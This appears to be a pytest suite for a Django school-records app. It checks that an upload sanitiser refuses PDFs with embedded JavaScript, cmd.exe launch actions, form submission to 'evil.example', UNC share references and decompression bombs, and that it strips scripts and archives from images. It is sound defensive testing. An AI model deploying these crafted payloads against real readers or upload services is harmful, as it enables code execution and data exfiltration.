"""Files that come in: what they are is read from their content, and nothing that could act is kept.

Everywhere a file may be sent: evidence of a case, a sheet, a corrected sheet, a list of placements, a message file.
"""

from __future__ import annotations

import io
import re
import time
import tracemalloc
from datetime import UTC, datetime

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from PIL import Image
from tests.attacks import uploads
from tests.attacks.addresses import ADDRESSES, objects
from tests.attacks.test_site import PERSONAS, ask, fill
from tests.attacks.test_tricks import of
from tests.attacks.world import World
from tests.helpers import seeing_all

from xueji.ground.files.content import FileRefused, clean
from xueji.ground.paper.roster import ListColumn, PaperList, render_list

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
ACTIVE = {
    "script": uploads.pdf(b"/OpenAction" + SCRIPT),
    "script in disguise": uploads.pdf(b"/OpenAction<</S/J#61va#53cript/J#53(x)>>"),
    "script packed away": uploads.pdf(packed=SCRIPT),
    "packed away in disguise": uploads.pdf(packed=b"<</S/JavaS#63ript>>"),
    "names of scripts": uploads.pdf(b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>"),
    "starts a program": uploads.pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "brings a file": uploads.pdf(b"/Names<</EmbeddedFiles<</Names[(a) 9 0 R]>>>>"),
    "brings a film": uploads.pdf(b"/Annots[<</Subtype/RichMedia>>]"),
    "sends a form": uploads.pdf(b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>"),
    "opens another file": uploads.pdf(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"),
    "hidden in what looks like a stream": uploads.pdf(
        b"/X 7 0 R>>endobj 7 0 obj<</Length 0>>stream\n" + SCRIPT + b"\nendstream endobj 8 0 obj<<"
    ),
}
LOCKED = {
    "encrypted": uploads.pdf(trailer=b"/Encrypt 9 0 R"),
    "packed twice": uploads.pdf(packed=SCRIPT).replace(b"/FlateDecode", b"[/ASCII85Decode/FlateDecode]"),
    "packed in an old way": uploads.pdf(packed=SCRIPT).replace(b"FlateDecode", b"LZWDecode"),
    "a bomb of objects": uploads.pdf(packed=b"0" * 60_000_000),
}
PLAIN = {
    "one page": uploads.pdf(),
    "opens at a page": uploads.pdf(b"/OpenAction[3 0 R/Fit]"),
    "packed objects": uploads.pdf(packed=b"<</Type/Font>>"),
    "a link": uploads.pdf(b"/Annots[<</A<</S/URI/URI(https://example.cn)>>>>]"),
    "a word of it in a picture": uploads.pdf(
        b"/X 7 0 R>>endobj 7 0 obj<<>>stream\n/JS /AA\nendstream endobj 8 0 obj<<"
    ),
}


@pytest.mark.capability("C-SEC-01")
@pytest.mark.parametrize("name", ACTIVE)
def test_a_pdf_that_acts_or_brings_something_along_is_refused(name: str) -> None:
    with pytest.raises(FileRefused) as error:
        clean(ACTIVE[name], "a.pdf")
    assert error.value.code == "active"


@pytest.mark.parametrize("name", LOCKED)
def test_a_pdf_that_nobody_can_look_into_is_refused(name: str) -> None:
    before = time.process_time()
    with pytest.raises(FileRefused) as error:
        clean(LOCKED[name], "a.pdf")
    assert error.value.code == "locked"
    assert time.process_time() - before < 5


@pytest.mark.parametrize("name", PLAIN)
def test_a_plain_pdf_is_kept_as_it_came(name: str) -> None:
    assert clean(PLAIN[name], "a.pdf").data == PLAIN[name]


def test_our_own_papers_are_plain() -> None:
    paper = render_list(
        PaperList(
            title="花名册",
            org_name="青禾县第一小学",
            columns=[ListColumn(label="姓名")],
            rows=[["/JavaScript"], ["苏晴川"]],
            printed_by="管理员",
            printed_at=datetime(2026, 11, 22, tzinfo=UTC),
        )
    )
    assert clean(paper, "a.pdf").data == paper


@pytest.mark.parametrize(
    "data",
    [uploads.jpeg(), uploads.jpeg(tail=b"<script>alert(1)</script>"), uploads.jpeg(tail=uploads.zip_bomb()[:20000]),
     uploads.png(text=b"SecretNote")],
    ids=["photo", "page behind it", "archive behind it", "text inside"],
)  # fmt: skip
def test_a_picture_keeps_its_pixels_and_nothing_else(data: bytes) -> None:
    kept = clean(data, "x.html")
    assert (kept.mime, kept.name) == ("image/jpeg", "x.jpg")
    for trace in (b"SecretPhone", b"SecretNote", b"<script", b"PK\x03\x04", b"Exif"):
        assert trace not in kept.data, trace
    with Image.open(io.BytesIO(kept.data)) as image:
        assert not image.getexif()
        assert image.format == "JPEG"


@pytest.mark.parametrize(
    "data",
    [uploads.png(60_000, 60_000), uploads.png(40_000, 1_200), b"<svg xmlns='http://www.w3.org/2000/svg'/>",
     b"<?xml version='1.0'?><svg/>", b"GIF89a" + b"\0" * 50, b"II*\x00" + b"\0" * 50, b"%!PS-Adobe-3.0 EPSF", b"PK\x03\x04",
     b"\xff\xd8\xff\xe0", b"RIFF\0\0\0\0WEBPVP8 ", b"BM" + b"\xff" * 60],
)  # fmt: skip
def test_bombs_and_what_is_no_photo_are_refused_quickly_and_with_little_memory(data: bytes) -> None:
    tracemalloc.start()
    before = time.process_time()
    with pytest.raises(FileRefused):
        clean(data, "x.jpg")
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.process_time() - before < 2
    assert peak < 64 * 1024 * 1024


#: Every address that takes a file, and the field it takes it in.
TAKES = {
    "changes:upload": "转学原因证明", "intake:list": "file", "intake:correct": "file", "intake:update": "file",
    "yearly:upload": "file",
    "admission:new": "file", "admission:paper_file": "file", "admission:official": "file", "admission:children_act": "file",
    "relay:import": "file", "collect:sign": "proof", "collect:form_do": "file",
}  # fmt: skip


def kept_files() -> int:
    with seeing_all(), connection.cursor() as c:
        c.execute("select count(*) from stored_file")
        return int(c.fetchone()[0])


@pytest.mark.parametrize("name", TAKES)
@pytest.mark.parametrize("what", list(uploads.FILES))
def test_every_address_that_takes_a_file_survives_every_file(site: World, name: str, what: str) -> None:
    address = ADDRESSES[name]
    before = kept_files()
    for persona in [p for p in PERSONAS if address.may(p[0])][:2]:
        client = of(site, *persona)
        for values, _key in objects(site, address)[:2]:
            answer = ask(client, "POST", fill(address, values), {TAKES[name]: uploads.FILES[what]()})
            assert answer.status_code < 500
            text = answer.content.decode("utf-8", "replace")
            assert "alert(1)" not in text
            assert "Traceback" not in text
            assert not re.search(r"/etc/|\.\./", text.partition("<main")[2].partition("</main")[0])
    assert kept_files() == before


@pytest.mark.parametrize("name", TAKES)
def test_a_file_beyond_the_limit_breaks_nothing(site: World, name: str) -> None:
    address = ADDRESSES[name]
    persona = next(p for p in PERSONAS if address.may(p[0]))
    if name == "changes:upload":
        persona = ("registrar", "b1")
    values = next((v for v, k in objects(site, address) if k == "wanted"), objects(site, address)[0][0])
    large = SimpleUploadedFile("x.pdf", b"%PDF-" + b"0" * (21 * 1024 * 1024))
    answer = ask(of(site, *persona), "POST", fill(address, values), {TAKES[name]: large})
    assert answer.status_code in (200, 302, 303, 400, 404, 413, 422)


def test_nothing_is_written_under_a_name_that_somebody_chose(site: World) -> None:
    client = of(site, "registrar", "b1")
    client.post(f"/cases/{site.cases['wanted']}/files/", {"转学原因证明": uploads.FILES["nul"]()})
    names = [p.name for p in settings.FILES_DIR.rglob("*") if p.is_file()]
    assert names
    assert all(re.fullmatch(r"[0-9a-f]{64}(\.thumb)?", n) for n in names)
